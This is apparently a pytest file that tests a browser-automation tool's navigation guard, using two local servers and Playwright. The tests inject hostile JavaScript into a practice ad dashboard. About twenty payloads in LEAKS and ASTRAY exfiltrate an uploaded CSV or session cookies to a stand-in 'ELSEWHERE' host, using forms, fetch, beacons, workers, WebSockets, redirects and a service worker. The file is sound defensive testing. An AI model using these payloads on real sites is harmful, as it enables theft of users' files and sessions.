"""Neither a CSV nor the session leaves for another origin, whatever a page tries: two real sites and a real browser."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass, field

import pytest
import pytest_asyncio
from aiohttp import WSMsgType, web
from playwright.async_api import async_playwright

from tests.fakes.bench import write_batch
from tests.site.conftest import Upload, patient
from tjgui.core.models import AdFormat, Status
from tjgui.practice import PracticeSite
from tjgui.site.browser import launch
from tjgui.site.navigation_guard import NavigationGuard
from tjgui.site.origins import OwnSite

_CREATED = "1 ad was created"


@dataclass
class Elsewhere:
    """Another server on this computer, which takes whatever it is sent and looks like the dashboard."""

    port: int = 0
    got: list[str] = field(default_factory=list)  #: method, path, and what of the site's came along

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    async def answer(self, request: web.Request) -> web.StreamResponse:
        if request.headers.get("Upgrade", "").lower() == "websocket":
            return await self._socket(request)
        body = await request.read()
        cookies = "cookies" if request.headers.get("Cookie") else ""
        content = "csv" if b"Ad Name" in body else "token" if b"token" in body else ""
        self.got.append(" ".join(filter(None, [request.method, request.path, cookies, content])))
        headers = {"Access-Control-Allow-Origin": request.headers.get("Origin", "*")}
        headers |= {"Access-Control-Allow-Headers": "*", "Access-Control-Allow-Credentials": "true"}
        return web.Response(text=f"<h1>{_CREATED}</h1>", content_type="text/html", headers=headers)

    async def _socket(self, request: web.Request) -> web.WebSocketResponse:
        self.got.append("socket cookies" if request.headers.get("Cookie") else "socket")
        socket = web.WebSocketResponse()
        await socket.prepare(request)
        async for message in socket:
            if message.type is WSMsgType.TEXT:
                self.got.append(f"socket {message.data[:20]}")
        return socket


@pytest_asyncio.fixture
async def elsewhere() -> AsyncIterator[Elsewhere]:
    here = Elsewhere()
    app = web.Application()
    app.router.add_route("*", "/{path:.*}", here.answer)
    runner = web.AppRunner(app, access_log=None, shutdown_timeout=0.1)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    here.port = runner.addresses[0][1]
    yield here
    await runner.cleanup()


Hostile = Callable[[Callable[[str], str]], Upload]


@pytest.fixture
def hostile(upload: Callable[..., Upload]) -> Hostile:
    """Return a maker of uploads of one campaign whose ad settings are rewritten."""

    def make(rewrite: Callable[[str], str]) -> Upload:
        def change(path: str, text: str) -> str:
            return rewrite(text) if path.endswith(("/ad-settings", "mass_create.js")) else text

        here = upload("layout-inline", campaigns=1, ads=2)
        here.site.stop()
        here.site = PracticeSite("layout-inline", campaigns=2, rewrite=change).start()
        here.batch = write_batch(here.folder, 1, 2, AdFormat.PREROLL)
        here.known = patient(preview=4.0, create=4.0, button=5.0, error=0.3, show=2.0, ads=2.0)
        return here

    return make


#: What a page does with the CSV as soon as it has it. FILE is the file, ELSEWHERE the other server.
_FORM = (
    "const f = document.createElement('form'); f.method = 'post'; f.enctype = 'multipart/form-data';"
    " f.action = 'ELSEWHERE/take'; const c = field.cloneNode(); c.files = field.files; f.append(c);"
    " document.body.append(f);"
)
LEAKS = {
    "a form": f"{_FORM} f.submit();",
    "a form in a new window": f"{_FORM} f.target = '_blank'; f.submit();",
    "a form in a window without an opener": f"{_FORM} f.target = '_blank'; f.rel = 'noopener'; f.submit();",
    "a form in an iframe": "const i = document.createElement('iframe'); i.name = 'inner'; document.body.append(i);"
    f"{_FORM} f.target = 'inner'; f.submit();",
    "a window that is opened": f"window.open('about:blank', 'other'); {_FORM} f.target = 'other'; f.submit();",
    "fetch": "const d = new FormData(); d.append('csv', FILE);"
    " fetch('ELSEWHERE/take', {method: 'POST', body: d, mode: 'no-cors', credentials: 'include'}).catch(() => 0);",
    "XMLHttpRequest": "const d = new FormData(); d.append('csv', FILE); const x = new XMLHttpRequest();"
    " x.open('POST', 'ELSEWHERE/take'); x.withCredentials = true; x.send(d);",
    "PUT": "fetch('ELSEWHERE/take', {method: 'PUT', body: FILE, credentials: 'include'}).catch(() => 0);",
    "a beacon": "navigator.sendBeacon('ELSEWHERE/take', FILE);",
    "keepalive": "FILE.text().then((t) => fetch('ELSEWHERE/take',"
    " {method: 'POST', body: t, mode: 'no-cors', keepalive: true}));",
    "a worker": "const w = new Worker(URL.createObjectURL(new Blob([`onmessage = (e) => fetch('ELSEWHERE/take',"
    " {method: 'POST', body: e.data, mode: 'no-cors', credentials: 'include'})`]))); w.postMessage(FILE);",
    "a web socket": "FILE.text().then((t) => { const w = new WebSocket('ELSEWHERE/socket'.replace('http', 'ws'));"
    " w.onopen = () => w.send(t); });",
    "a web socket to another company": "FILE.text().then((t) => { const w ="
    " new WebSocket('ELSEWHERE/socket'.replace('http', 'ws').replace('127.0.0.1', 'localhost'));"
    " w.onopen = () => w.send(t); });",
    "fetch to another company": "fetch('ELSEWHERE/take'.replace('127.0.0.1', 'localhost'),"
    " {method: 'POST', body: FILE, mode: 'no-cors'}).catch(() => 0);",
    "an image with the session": "new Image().src = 'ELSEWHERE/image';",
    "an iframe with the session": "const i = document.createElement('iframe'); i.src = 'ELSEWHERE/frame';"
    " document.body.append(i);",
    "a window with the session": "window.open('ELSEWHERE/window');",
    "a stylesheet with the session": "const l = document.createElement('link'); l.rel = 'stylesheet';"
    " l.href = 'ELSEWHERE/style'; document.head.append(l);",
    "going there": "location.href = 'ELSEWHERE/go';",
}


@pytest.mark.parametrize("name", LEAKS)
async def test_nothing_of_the_batch_or_the_session_leaves_for_another_port(
    hostile: Hostile, elsewhere: Elsewhere, name: str
) -> None:
    leak = LEAKS[name].replace("ELSEWHERE", elsewhere.url)
    leak = leak.replace("FILE", "field.files[0]")
    script = f"""<script>addEventListener('change', (event) => {{
      const field = event.target;
      if (field.type !== 'file') return;
      {leak}
      document.body.dataset.tried = 'yes';
    }});</script>"""
    here = hostile(lambda text: text.replace("</main>", f"{script}</main>"))
    await here.run()
    assert elsewhere.got == []
    assert here.statuses()[0] in {Status.SUCCESS, Status.FAILED}
    assert len(here.site.ledger()) == (2 if here.statuses() == [Status.SUCCESS] else 0)


_IN_THE_WAY = (
    '<form id="astray" action="ELSEWHERE/"><input name="action" hidden><input name="getAttribute" hidden></form>'
)
_TOLD = "would send to another site (ELSEWHERE). This was stopped."
#: What is changed on the page, and which button is then wrong.
ASTRAY = {
    "the form that takes the CSV": (
        '<div id="csvPart" class="d-none">',
        '<form id="csvPart" class="d-none" action="ELSEWHERE/take" method="post">',
        "“Create CSV Preview”",
    ),
    "the form of the last button": (
        '<button type="button" class="create-ads',
        '<form id="astray" action="ELSEWHERE/take" method="post"></form><button form="astray" class="create-ads',
        "“Create ad(s)”",
    ),
    "the form of the last button, with fields in the way of asking": (
        '<button type="button" class="create-ads',
        f'{_IN_THE_WAY}<button form="astray" class="create-ads',
        "“Create ad(s)”",
    ),
    "the last button's own address": (
        '<button type="button" class="create-ads',
        '<form id="astray" method="post"></form><button form="astray" formaction="ELSEWHERE" class="create-ads',
        "“Create ad(s)”",
    ),
    "where the preview is asked for": (
        "this.post(this.config.previewUrl, form)",
        "this.post('ELSEWHERE/take', form)",
        "“Create CSV Preview”",
    ),
    "where the preview is asked for, with the CSV as text": (
        "this.post(this.config.previewUrl, form)",
        "this.post('ELSEWHERE/take', await form.get('csv').text())",
        "“Create CSV Preview”",
    ),
}


@pytest.mark.parametrize("name", ASTRAY)
async def test_what_would_be_sent_elsewhere_is_stopped_and_named(
    hostile: Hostile, elsewhere: Elsewhere, name: str
) -> None:
    old, new, button = (one.replace("ELSEWHERE", elsewhere.url) for one in ASTRAY[name])
    here = hostile(lambda text: text.replace(old, new))
    await here.run()
    assert elsewhere.got == []
    assert here.site.ledger() == []
    (entry,) = here.entries.values()
    assert entry is not None
    assert entry.status is Status.FAILED
    assert button in entry.error
    assert _TOLD.replace("ELSEWHERE", elsewhere.url) in entry.error


async def test_a_click_whose_request_was_stopped_is_no_success_and_says_where_it_was_to_go(
    hostile: Hostile, elsewhere: Elsewhere
) -> None:
    here = hostile(lambda text: text.replace("this.post(this.config.createUrl,", f"this.post('{elsewhere.url}/take',"))
    await here.run()
    assert elsewhere.got == []
    assert here.site.ledger() == []
    (entry,) = here.entries.values()
    assert entry is not None
    assert entry.status is Status.UNKNOWN
    assert entry.intent is not None
    assert f"“Create ad(s)” on the page of campaign 1011737001 {_TOLD}" in str(entry.intent.said).replace(
        elsewhere.url, "ELSEWHERE"
    )


@pytest.mark.parametrize("how", ["redirect", "script", "refresh"])
async def test_another_port_that_looks_like_the_dashboard_gets_nothing(
    upload: Callable[..., Upload], elsewhere: Elsewhere, how: str
) -> None:
    here = upload("layout-inline", campaigns=1, ads=1)
    pages = {
        "script": "<script>location.replace('{}')</script>",
        "refresh": "<meta http-equiv='refresh' content='0; url={}'>",
    }

    async def lead_astray(request: web.Request) -> web.Response:
        there = f"{here.site.site_url}{request.path}"
        if how == "redirect":
            raise web.HTTPFound(there)
        return web.Response(text=pages[how].format(there), content_type="text/html")

    app = web.Application()
    app.router.add_get("/{path:.*}", lead_astray)
    runner = web.AppRunner(app, access_log=None, shutdown_timeout=0.1)
    await runner.setup()
    try:
        await web.TCPSite(runner, "127.0.0.1", 0).start()
        here.site_url = f"http://127.0.0.1:{runner.addresses[0][1]}"
        here.known = patient(open=3.0)
        await here.run()
    finally:
        await runner.cleanup()
    assert here.site.count("page") == 0
    assert here.site.ledger() == []
    (entry,) = here.entries.values()
    assert entry is not None
    assert entry.status is Status.FAILED
    assert f"led to another site ({here.site.site_url})" in entry.error


async def test_redirects_of_what_was_sent_and_service_workers_are_stopped_too(elsewhere: Elsewhere) -> None:
    worker = (
        "self.addEventListener('activate', (event) => event.waitUntil(clients.claim()));"
        f"self.addEventListener('message', () => fetch('{elsewhere.url}/take',"
        " {method: 'POST', body: 'Ad Name', mode: 'no-cors', credentials: 'include'}));"
    )

    by_worker = (
        "navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready)"
        ".then((one) => one.active.postMessage('go'))"
    )

    async def lead_astray(request: web.Request) -> web.Response:
        if request.path == "/worker.js":
            return web.Response(text=worker, content_type="text/javascript")
        if request.method == "GET":
            return web.Response(text="<form method='post'></form>", content_type="text/html")
        raise web.HTTPTemporaryRedirect(f"{elsewhere.url}/take")

    app = web.Application()
    app.router.add_route("*", "/{path:.*}", lead_astray)
    runner = web.AppRunner(app, access_log=None, shutdown_timeout=0.1)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    site = f"http://127.0.0.1:{runner.addresses[0][1]}"
    async with async_playwright() as playwright:
        browser = await launch(playwright, headless=True)
        context = await browser.new_context()
        guard = await NavigationGuard.begin(context, OwnSite.of(site, site))
        page = await context.new_page()
        of_page = await guard.protect(page)
        await page.goto(site)
        of_page.holds_csv = True
        for sending in (
            "fetch('/x', {method: 'POST', body: 'Ad Name'}).catch(() => 0)",
            "fetch('/x', {method: 'POST', body: 'Ad Name', mode: 'no-cors'}).catch(() => 0)",
            by_worker,
            "document.forms[0].submit()",
        ):
            await page.evaluate(sending)
            async with asyncio.timeout(10):
                await of_page.stopped()
            of_page.reset()
            of_page.holds_csv = True
        await browser.close()
    await runner.cleanup()
    assert elsewhere.got == []
